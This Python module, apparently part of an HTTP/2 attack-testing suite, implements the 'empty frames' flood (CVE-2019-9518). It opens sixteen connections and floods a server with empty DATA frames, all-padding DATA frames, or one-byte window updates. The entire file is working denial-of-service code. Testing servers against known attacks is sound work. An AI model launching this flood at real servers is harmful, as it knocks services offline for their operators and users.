"""Frames with little or no content, which cost a client nine bytes each: DATA that does not end a
stream, DATA that is all padding, and updates of a window by one byte."""

from lib.attack import HTTP2, Attack, Case
from lib.frames import DATA, PADDED, frame, post, request, window_update

CONNECTIONS = 16


def flood(attacker, piece):
    def begin(at):
        wire = attacker.http2(at=at)
        if wire:
            wire.send(request(1, post(), ends=False))
        return wire

    attacker.pour(CONNECTIONS, begin, piece)


def data(attacker):
    flood(attacker, frame(DATA, 0, 1))


def padding(attacker):
    flood(attacker, frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255))


def updates(attacker):
    flood(attacker, window_update(1, 1))


ATTACK = Attack(
    title="empty frames",
    published="CVE-2019-9518",
    cases=(
        Case("DATA", HTTP2, data, {"frames": 100_000}),
        Case("padding only", HTTP2, padding, {"frames": 5_000}, is_long=True),
        Case("window updates by one", HTTP2, updates, {"frames": 100_000}),
    ),
)
